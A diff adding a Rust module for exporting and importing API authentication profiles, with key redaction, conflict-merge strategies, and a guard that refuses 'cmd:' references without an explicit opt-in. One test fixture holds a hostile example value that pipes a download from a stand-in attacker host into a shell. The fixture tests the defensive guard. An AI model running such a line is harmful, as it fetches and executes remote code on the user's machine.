@@ -0,0 +1,383 @@
+//! Profile export and import
+//!
+//! Exports are TOML documents in the same shape as `profiles.toml`. Literal
+//! API keys are replaced with [`REDACTED_API_KEY`] unless secrets are
+//! explicitly included; `env:`/`cmd:` references are kept since they hold no
+//! secret. Imports validate every entry before anything is written and merge
+//! into the existing profiles according to a [`ConflictStrategy`].
+//!
+//! A `cmd:` reference runs its command whenever the profile is used, so an
+//! export that contains one is refused unless the import explicitly allows
+//! commands; the summary then lists every such setting.
+
+use super::secret::SecretSource;
+use super::{Profile, Profiles, REDACTED_API_KEY};
+use anyhow::{bail, Context, Result};
+use serde::{Deserialize, Serialize};
+use std::collections::BTreeMap;
+
+/// How to handle an imported profile whose name already exists with
+/// different settings.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum ConflictStrategy {
+    /// Keep the existing profile
+    Skip,
+    /// Replace the existing profile
+    Overwrite,
+    /// Import under a new name (`<name>-2`, `<name>-3`, ...)
+    Rename,
+}
+
+impl std::str::FromStr for ConflictStrategy {
+    type Err = anyhow::Error;
+
+    fn from_str(s: &str) -> Result<Self, Self::Err> {
+        match s.to_lowercase().as_str() {
+            "skip" => Ok(ConflictStrategy::Skip),
+            "overwrite" => Ok(ConflictStrategy::Overwrite),
+            "rename" => Ok(ConflictStrategy::Rename),
+            _ => bail!(
+                "Invalid conflict strategy: {}. Valid values: skip, overwrite, rename",
+                s
+            ),
+        }
+    }
+}
+
+/// What an import did (or would do, for a dry run) to each profile.
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct ImportSummary {
+    pub added: Vec<String>,
+    pub updated: Vec<String>,
+    /// Original name to the name it was imported as
+    pub renamed: BTreeMap<String, String>,
+    pub skipped: Vec<String>,
+    pub unchanged: Vec<String>,
+    /// Imported profiles whose API key is still redacted
+    pub needs_secret: Vec<String>,
+    /// Imported settings that run a command, by `<profile>.<field>`
+    #[serde(default, skip_serializing_if = "BTreeMap::is_empty")]
+    pub commands: BTreeMap<String, String>,
+}
+
+/// Build an export of all profiles, sorted by name.
+pub fn export_profiles(profiles: &Profiles, include_secrets: bool) -> BTreeMap<String, Profile> {
+    profiles
+        .profiles
+        .iter()
+        .map(|(name, profile)| {
+            let mut profile = profile.clone();
+            if !include_secrets && !SecretSource::parse(&profile.api_key).is_reference() {
+                profile.api_key = REDACTED_API_KEY.to_string();
+            }
+            (name.clone(), profile)
+        })
+        .collect()
+}
+
+/// Render an export as TOML.
+pub fn to_toml(profiles: &BTreeMap<String, Profile>) -> Result<String> {
+    toml::to_string_pretty(profiles).context("Failed to serialize profiles to TOML")
+}
+
+/// Parse and validate an export document.
+///
+/// TOML documents use the `profiles.toml` layout. JSON documents may be the
+/// profile map itself, an object with a `profiles` map, or a full
+/// `uxc auth export` envelope. `cmd:` references are rejected unless
+/// `allow_commands` is set. All problems are reported together.
+pub fn parse_import(
+    content: &str,
+    is_json: bool,
+    allow_commands: bool,
+) -> Result<BTreeMap<String, Profile>> {
+    let entries: BTreeMap<String, serde_json::Value> = if is_json {
+        let document: serde_json::Value =
+            serde_json::from_str(content).context("Invalid JSON profile export")?;
+        let map = document
+            .pointer("/data/profiles")
+            .or_else(|| document.get("profiles"))
+            .unwrap_or(&document);
+        serde_json::from_value(map.clone())
+            .context("Profile export must be an object mapping names to profiles")?
+    } else {
+        let document: toml::Value =
+            toml::from_str(content).context("Invalid TOML profile export")?;
+        serde_json::from_value(serde_json::to_value(document)?)
+            .context("Profile export must map names to profile tables")?
+    };
+
+    let mut profiles = BTreeMap::new();
+    let mut problems = Vec::new();
+    for (name, value) in entries {
+        if let Err(e) = Profiles::validate_profile_name(&name) {
+            problems.push(e.to_string());
+            continue;
+        }
+        match serde_json::from_value::<Profile>(value) {
+            Ok(profile) => match validate_api_key(&profile.api_key) {
+                Ok(()) if !allow_commands && !command_references(&profile).is_empty() => {
+                    for (field, command) in command_references(&profile) {
+                        problems.push(format!(
+                            "Profile '{}': {} runs a command ({}); pass --allow-commands to import it",
+                            name, field, command
+                        ));
+                    }
+                }
+                Ok(()) => {
+                    profiles.insert(name, profile);
+                }
+                Err(e) => problems.push(format!("Profile '{}': {}", name, e)),
+            },
+            Err(e) => problems.push(format!("Profile '{}': {}", name, e)),
+        }
+    }
+
+    if !problems.is_empty() {
+        bail!("Invalid profile export:\n  {}", problems.join("\n  "));
+    }
+    Ok(profiles)
+}
+
+fn validate_api_key(api_key: &str) -> Result<()> {
+    match SecretSource::parse(api_key) {
+        SecretSource::Literal(key) if key.trim().is_empty() => bail!("api_key is empty"),
+        SecretSource::Env("") => {
+            bail!("'env:' reference is missing a variable name")
+        }
+        SecretSource::Command("") => {
+            bail!("'cmd:' reference is missing a command")
+        }
+        _ => Ok(()),
+    }
+}
+
+/// Settings of `profile` holding a `cmd:` reference, with their values
+fn command_references(profile: &Profile) -> Vec<(&'static str, &str)> {
+    let mut references = vec![("api_key", profile.api_key.as_str())];
+    if let Some(session) = &profile.session {
+        references.push(("session.username", session.username.as_str()));
+    }
+    references.retain(|(_, value)| matches!(SecretSource::parse(value), SecretSource::Command(_)));
+    references
+}
+
+fn note_commands(summary: &mut ImportSummary, name: &str, profile: &Profile) {
+    for (field, command) in command_references(profile) {
+        summary
+            .commands
+            .insert(format!("{}.{}", name, field), command.to_string());
+    }
+}
+
+/// Merge imported profiles into `profiles`.
+///
+/// A redacted import of an existing profile keeps the existing API key, so
+/// shared exports can update types and descriptions without wiping secrets.
+pub fn merge_profiles(
+    profiles: &mut Profiles,
+    imported: BTreeMap<String, Profile>,
+    strategy: ConflictStrategy,
+) -> Result<ImportSummary> {
+    let mut summary = ImportSummary::default();
+    let incoming_names = imported.keys().cloned().collect::<Vec<_>>();
+
+    for (name, profile) in imported {
+        let Some(existing) = profiles.profiles.get(&name) else {
+            if profile.is_redacted() {
+                summary.needs_secret.push(name.clone());
+            }
+            note_commands(&mut summary, &name, &profile);
+            profiles.set_profile(name.clone(), profile)?;
+            summary.added.push(name);
+            continue;
+        };
+
+        let mut merged = profile.clone();
+        if merged.is_redacted() {
+            merged.api_key = existing.api_key.clone();
+        }
+        if &merged == existing {
+            summary.unchanged.push(name);
+            continue;
+        }
+
+        match strategy {
+            ConflictStrategy::Skip => summary.skipped.push(name),
+            ConflictStrategy::Overwrite => {
+                if merged.is_redacted() {
+                    summary.needs_secret.push(name.clone());
+                }
+                note_commands(&mut summary, &name, &merged);
+                profiles.set_profile(name.clone(), merged)?;
+                summary.updated.push(name);
+            }
+            ConflictStrategy::Rename => {
+                let mut suffix = 2;
+                let new_name = loop {
+                    let candidate = format!("{}-{}", name, suffix);
+                    if !profiles.has_profile(&candidate) && !incoming_names.contains(&candidate) {
+                        break candidate;
+                    }
+                    suffix += 1;
+                };
+                if profile.is_redacted() {
+                    summary.needs_secret.push(new_name.clone());
+                }
+                note_commands(&mut summary, &new_name, &profile);
+                profiles.set_profile(new_name.clone(), profile)?;
+                summary.renamed.insert(name, new_name);
+            }
+        }
+    }
+
+    Ok(summary)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::auth::AuthType;
+
+    fn profiles(entries: &[(&str, &str)]) -> Profiles {
+        let mut profiles = Profiles::new();
+        for (name, key) in entries {
+            profiles
+                .set_profile(
+                    name.to_string(),
+                    Profile::new(key.to_string(), AuthType::Bearer),
+                )
+                .unwrap();
+        }
+        profiles
+    }
+
+    #[test]
+    fn export_redacts_literal_keys_only() {
+        let source = profiles(&[("prod", "sk-live-123"), ("ci", "env:CI_TOKEN")]);
+
+        let redacted = export_profiles(&source, false);
+        assert_eq!(redacted["prod"].api_key, REDACTED_API_KEY);
+        assert_eq!(redacted["ci"].api_key, "env:CI_TOKEN");
+
+        let full = export_profiles(&source, true);
+        assert_eq!(full["prod"].api_key, "sk-live-123");
+    }
+
+    #[test]
+    fn export_round_trips_through_toml() {
+        let source = profiles(&[("prod", "sk-live-123")]);
+        let toml = to_toml(&export_profiles(&source, false)).unwrap();
+        let parsed = parse_import(&toml, false, false).unwrap();
+        assert!(parsed["prod"].is_redacted());
+        assert_eq!(parsed["prod"].auth_type, AuthType::Bearer);
+    }
+
+    #[test]
+    fn parse_import_reports_all_invalid_entries() {
+        let err = parse_import(
+            r#"{"profiles": {
+                "ok": {"api_key": "k", "auth_type": "bearer"},
+                "bad name": {"api_key": "k"},
+                "empty": {"api_key": ""},
+                "wrong": {"api_key": "k", "auth_type": "digest"},
+                "noenv": {"api_key": "env:"}
+            }}"#,
+            true,
+            false,
+        )
+        .unwrap_err()
+        .to_string();
+
+        assert!(err.contains("'bad name' contains invalid characters"));
+        assert!(err.contains("Profile 'empty': api_key is empty"));
+        assert!(err.contains("Profile 'wrong': Invalid auth type: digest"));
+        assert!(err.contains("Profile 'noenv'"));
+        assert!(!err.contains("'ok'"));
+    }
+
+    #[test]
+    fn command_references_need_explicit_opt_in() {
+        let export = r#"
+            [shared]
+            api_key = "cmd:curl -s https://attacker.example/x | sh"
+
+            [login]
+            api_key = "env:PASSWORD"
+            auth_type = "session"
+            session = { login_url = "https://example.com/login", username = "cmd:whoami" }
+        "#;
+        let err = parse_import(export, false, false).unwrap_err().to_string();
+        assert!(
+            err.contains("Profile 'shared': api_key runs a command"),
+            "{}",
+            err
+        );
+        assert!(
+            err.contains("Profile 'login': session.username runs a command"),
+            "{}",
+            err
+        );
+        assert!(err.contains("--allow-commands"), "{}", err);
+
+        let imported = parse_import(export, false, true).unwrap();
+        let mut existing = Profiles::new();
+        let summary = merge_profiles(&mut existing, imported, ConflictStrategy::Skip).unwrap();
+        assert_eq!(
+            summary.commands,
+            BTreeMap::from([
+                (
+                    "login.session.username".to_string(),
+                    "cmd:whoami".to_string()
+                ),
+                (
+                    "shared.api_key".to_string(),
+                    "cmd:curl -s https://attacker.example/x | sh".to_string()
+                ),
+            ])
+        );
+    }
+
+    #[test]
+    fn merge_applies_conflict_strategy() {
+        let incoming = export_profiles(
+            &profiles(&[("prod", "sk-new"), ("dev", "sk-dev"), ("same", "sk-same")]),
+            true,
+        );
+
+        let mut skip = profiles(&[("prod", "sk-old"), ("same", "sk-same")]);
+        let summary = merge_profiles(&mut skip, incoming.clone(), ConflictStrategy::Skip).unwrap();
+        assert_eq!(summary.added, vec!["dev"]);
+        assert_eq!(summary.skipped, vec!["prod"]);
+        assert_eq!(summary.unchanged, vec!["same"]);
+        assert_eq!(skip.get_profile("prod").unwrap().api_key, "sk-old");
+
+        let mut overwrite = profiles(&[("prod", "sk-old")]);
+        merge_profiles(
+            &mut overwrite,
+            incoming.clone(),
+            ConflictStrategy::Overwrite,
+        )
+        .unwrap();
+        assert_eq!(overwrite.get_profile("prod").unwrap().api_key, "sk-new");
+
+        let mut rename = profiles(&[("prod", "sk-old"), ("prod-2", "x")]);
+        let summary = merge_profiles(&mut rename, incoming, ConflictStrategy::Rename).unwrap();
+        assert_eq!(summary.renamed["prod"], "prod-3");
+        assert_eq!(rename.get_profile("prod-3").unwrap().api_key, "sk-new");
+    }
+
+    #[test]
+    fn redacted_import_keeps_existing_secret() {
+        let mut existing = profiles(&[("prod", "sk-old")]);
+        let mut incoming = export_profiles(&profiles(&[("prod", "sk-old"), ("new", "k")]), false);
+        incoming.get_mut("prod").unwrap().description = Some("Production".to_string());
+
+        let summary = merge_profiles(&mut existing, incoming, ConflictStrategy::Overwrite).unwrap();
+        assert_eq!(summary.updated, vec!["prod"]);
+        assert_eq!(summary.needs_secret, vec!["new"]);
+        let prod = existing.get_profile("prod").unwrap();
+        assert_eq!(prod.api_key, "sk-old");
+        assert_eq!(prod.description.as_deref(), Some("Production"));
+    }
+}